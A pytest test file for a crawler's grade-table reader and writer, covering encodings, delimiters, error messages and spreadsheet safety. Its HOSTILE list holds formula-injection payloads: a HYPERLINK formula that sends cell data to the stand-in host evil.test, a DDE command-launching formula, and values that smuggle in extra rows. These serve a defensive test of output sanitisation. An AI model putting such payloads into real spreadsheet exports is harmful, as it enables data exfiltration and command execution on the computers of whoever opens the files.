"""Tables of grades: one format, from an editor, a spreadsheet or another program."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from topiccrawl.errors import LabelError
from topiccrawl.topics.calibration.graded_pages import read_grades, read_page_grades, write_grades

ROWS = [("http://a.cn/1", "2", "党建"), ("https://A.cn:443/3", "1", "侨情"), ("http://a.cn/9", "0", "球队")]


def saved(file: Path, header: str, rows: list[tuple[str, ...]], encoding: str, delimiter: str) -> Path:
    lines = [header.replace(" ", delimiter), *(delimiter.join(row) for row in rows)]
    file.write_bytes("".join(f"{line}\r\n" for line in lines).encode(encoding))
    return file


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("delimiter", ["\t", ",", ";"])
def test_grades_are_read_as_any_program_saves_them(tmp_path: Path, encoding: str, delimiter: str) -> None:
    file = saved(tmp_path / "grades.csv", "url Grade title", [*ROWS, ("", "", "")], encoding, delimiter)
    grades = read_page_grades(file)
    urls = ("http://a.cn/1", "http://a.cn/3", "http://a.cn/9", "http://a.cn/unknown")
    assert [grades.grade(url) for url in urls] == [2, 1, 0, None]
    assert grades.relevant == 1
    assert [row.title for row in read_grades(file)] == ["党建", "侨情", "球队"]


def test_a_column_label_says_relevant_or_not(tmp_path: Path) -> None:
    file = tmp_path / "labels.tsv"
    file.write_text("label\turl\n1\thttp://a.cn/1\n0\thttp://a.cn/2\n\thttp://a.cn/3\n0.5\thttp://a.cn/4\n")
    assert [row.grade for row in read_grades(file)] == [2, 0, None, 2]
    file.write_text("url\tlabel\tgrade\nhttp://a.cn/1\t1\t1\nhttp://a.cn/2\t0\t2.0\n")
    assert [row.grade for row in read_grades(file)] == [1, 2], "the grade counts"


def test_pages_that_are_not_graded_yet_have_no_grade(tmp_path: Path) -> None:
    """As `topic label --table` writes them, with titles that no spreadsheet wrote."""
    file = tmp_path / "grades.tsv"
    write_grades(file, {"http://a.cn/1": (2, "党建"), "http://a.cn/2": (None, '"红船"精神')})
    grades = read_page_grades(file)
    assert (grades.grade("http://a.cn/1"), grades.grade("http://a.cn/2")) == (2, None)
    file.write_text('url\tgrade\ttitle\nhttp://a.cn/1\t2\t"红船"精神\nhttp://a.cn/2\t0\t"红船\n', "utf-8")
    assert [row.title for row in read_grades(file)] == ['"红船"精神', '"红船']


HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"党建")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "党建\r\nhttp://evil.test/\t2\t党建",
    '"党建',
    '党建"',
    "党建\u202e\x9b31m\ud800",
    '",,"',
]


def test_hostile_titles_change_no_row_and_are_no_formulas(tmp_path: Path) -> None:
    file = tmp_path / "grades.tsv"
    pages = {f"http://a.cn/{number}": (number % 3, title) for number, title in enumerate(HOSTILE)}
    write_grades(file, pages)
    assert file.read_bytes().startswith("\ufeffurl\tgrade\ttitle\n".encode()), "spreadsheets need the mark"
    with file.open(encoding="utf-8-sig", newline="") as lines:
        cells = list(csv.reader(lines, delimiter="\t", strict=True))[1:]
    assert [(url, grade) for url, grade, _ in cells] == [
        (url, str(grade)) for url, (grade, _) in pages.items()
    ]
    assert not [title for _, _, title in cells if title[:1] in "=+-@\t\r" or not title.isprintable()]
    rows = read_grades(file)
    assert [(row.url, row.grade) for row in rows] == [(url, grade) for url, (grade, _) in pages.items()]
    before = file.read_bytes()
    write_grades(file, {row.url: (row.grade, row.title) for row in rows})
    assert file.read_bytes() == before, "grading goes on in the same table"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", ":1: expected the columns url (or text) and grade (or label), separated by tabs or commas"),
        ("url,grade,grade\nhttp://a.cn/,1,2\n", ":1: a column is named twice: url, grade, grade"),
        ("text,grade\n党员,2\n", ":2: url '' is not an http or https URL"),
        ("url,grade\n\nwww.a.cn/1,2\n", ":3: url 'www.a.cn/1' is not an http or https URL"),
        ("url,grade\nhttp://a.cn/,good\n", ":2: grade 'good' is not 2 (relevant), 1 (near), 0 (not) or empty"),
        ("url,grade\nhttp://a.cn/,3\n", ":2: grade '3' is not 2 (relevant)"),
        ("url,label\nhttp://a.cn/,ja\n", ":2: label 'ja' is not a number"),
        ("url,grade\nhttp://a.cn/?a=1,2,2\n", ":2: expected 2 columns, found 3"),
        ("url,grade\nhttp://a.cn/,2\nhttps://a.cn,0\n", ":3: the page has a different grade in"),
        ("url,grade\nhttp://a.cn/,1\nhttp://a.cn/2,\n", ": no page is relevant: expected at least one with the grade 2"),
        ('url,grade\n"http://a.cn/,2\n', ":2: no line of a table"),
    ],
)  # fmt: skip
def test_what_is_wrong_is_named_with_file_line_and_value(tmp_path: Path, text: str, message: str) -> None:
    file = tmp_path / "grades.csv"
    file.write_text(text, "utf-8")
    with pytest.raises(LabelError) as error:
        read_page_grades(file)
    assert f"{file}{message}" in str(error.value)


def test_a_file_without_end_is_not_read(tmp_path: Path) -> None:
    with (file := tmp_path / "grades.tsv").open("wb") as opened:
        opened.truncate(3 * 2**30)
    with pytest.raises(OSError, match="File too large"):
        read_page_grades(file)
